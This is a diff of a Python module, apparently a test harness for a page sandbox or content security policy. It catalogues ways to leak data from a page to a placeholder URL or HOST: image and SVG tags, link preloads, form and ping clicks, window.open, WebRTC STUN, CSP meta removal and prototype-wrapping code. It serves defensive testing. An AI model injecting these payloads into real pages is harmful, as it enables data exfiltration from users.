@@ -1,5 +1,7 @@
-"""Ways to get data out of a page. Each is code that has `el`, an element, and `URL`, `HOST` and `PORT` of a
-server; each arrives there from a page that nothing protects.
+"""Ways to get data out of a page.
+
+Each is code that has `el`, an element, and the `URL` and `HOST` of a server; each arrives there
+from a page that nothing protects.
 """
 
 _TAGS = {
@@ -11,7 +13,10 @@ _TAGS = {
     "audio": "<audio src=URL preload=auto></audio>",
     "image button": "<input type=image src=URL>",
     "svg image": "<svg><image href=URL width=9 height=9 /></svg>",
-    "svg filter": "<svg><filter id=f><feImage href=URL /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
+    "svg filter": (
+        "<svg><filter id=f><feImage href=URL /></filter>"
+        "<rect filter=url(#f) width=9 height=9 /></svg>"
+    ),
     "object": "<object data=URL></object>",
     "embed": "<embed src=URL>",
     "frame": "<iframe src=URL></iframe>",
@@ -40,8 +45,6 @@ _LINKS = {
     "preload of a script": "rel=preload as=script",
     "preload of data": "rel=preload as=fetch crossorigin",
     "preloaded module": "rel=modulepreload",
-    "preconnect": "rel=preconnect",
-    "manifest": "rel=manifest",
 }
 
 _CLICKS = {
@@ -50,7 +53,7 @@ _CLICKS = {
     "link to a new window": "<a href=URL target=_blank></a>",
     "link by the frame's name": "<a href=URL target=personal-page-cabinet></a>",
     "ping of a link": "<a href='#here' ping=URL></a>",
-    "area": "<map><area href=URL></map>",
+    "map": "<map><area href=URL></map>",
     "button of a form": "<form><button formaction=URL></button></form>",
     "form": "<form action=URL><button></button></form>",
     "form that posts": "<form action=URL method=post><button></button></form>",
@@ -104,7 +107,9 @@ _CALLS = {
     "popup": "window.open(URL)",
     "window in place of the top one": "window.open(URL, '_top')",
     "window by the frame's name": "window.open(URL, 'personal-page-cabinet')",
-    "document that is written": "document.open(); document.write(`<img src=${URL}>`); document.close()",
+    "document that is written": (
+        "document.open(); document.write(`<img src=${URL}>`); document.close()"
+    ),
     "document that is written with a policy of its own": (
         "document.open(); document.write(`<meta http-equiv=Content-Security-Policy "
         'content="img-src *"><img src=${URL}>`); document.close()'
@@ -113,7 +118,8 @@ _CALLS = {
         "document.querySelectorAll('meta').forEach((meta) => meta.remove()); fetch(URL)"
     ),
     "html of another document": (
-        "document.body.append(new DOMParser().parseFromString(`<img src=${URL}>`, 'text/html').body)"
+        "document.body.append("
+        "new DOMParser().parseFromString(`<img src=${URL}>`, 'text/html').body)"
     ),
     "code of a nested document": (
         "const f = document.createElement('iframe'); el.append(f); f.contentWindow.fetch(URL)"
@@ -135,10 +141,12 @@ _CALLS = {
     ),
     "WebRTC of a nested document": (
         "const f = document.createElement('iframe'); el.append(f);"
-        "const c = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${HOST}` }] });"
+        "const c = new f.contentWindow.RTCPeerConnection("
+        "{ iceServers: [{ urls: `stun:${HOST}` }] });"
         "c.createDataChannel('leak');"
         "c.createOffer().then((offer) => c.setLocalDescription(offer))"
     ),
+    # The cabinet that this breaks is put away by the page.
     "every global of the shim removed": (
         "for (const name of Object.getOwnPropertyNames(window)) {"
         " if (!['fetch', 'document', 'Image', 'el', 'URL'].includes(name))"
@@ -146,10 +154,15 @@ _CALLS = {
         "new Image().src = URL; fetch(URL)"
     ),
     "prototypes that are polluted": (
-        "const stolen = []; for (const type of [Object, Array, Map, Promise, String, JSON, MessagePort])"
-        " { const of = type.prototype ?? type; for (const name of Object.getOwnPropertyNames(of)) {"
-        " try { const was = of[name]; if (typeof was === 'function' && name !== 'constructor')"
-        " of[name] = function (...all) { stolen.push(this); return was.apply(this, all) } } catch {} } }"
+        "const stolen = [];"
+        "for (const type of [Object, Array, Map, Promise, String, JSON, MessagePort]) {"
+        "  const of = type.prototype ?? type;"
+        "  for (const name of Object.getOwnPropertyNames(of)) { try {"
+        "    const was = of[name];"
+        "    if (typeof was === 'function' && name !== 'constructor') of[name] ="
+        "      function (...all) { stolen[stolen.length] = this; return was.apply(this, all) }"
+        "  } catch {} }"
+        "}"
         "setTimeout(() => { new Image().src = URL }); fetch(URL)"
     ),
 }
@@ -180,6 +193,20 @@ ATTEMPTS = {
     **{f"click on a {name}": _click(markup) for name, markup in _CLICKS.items()},
     **{name: _worker(code) for name, code in _IN_A_WORKER.items()},
 }
+
+
+NAVIGATIONS = {
+    "location",
+    "location.assign",
+    "location.replace",
+    "Navigation",
+    "frame",
+    "refresh of a nested document",
+    "refresh",
+    "click on a link",
+    "click on a map",
+}
+"""At these Chromium opens a connection, on which nothing is sent, before it asks the policy."""
 
 
 def against(host: str, code: str) -> str:
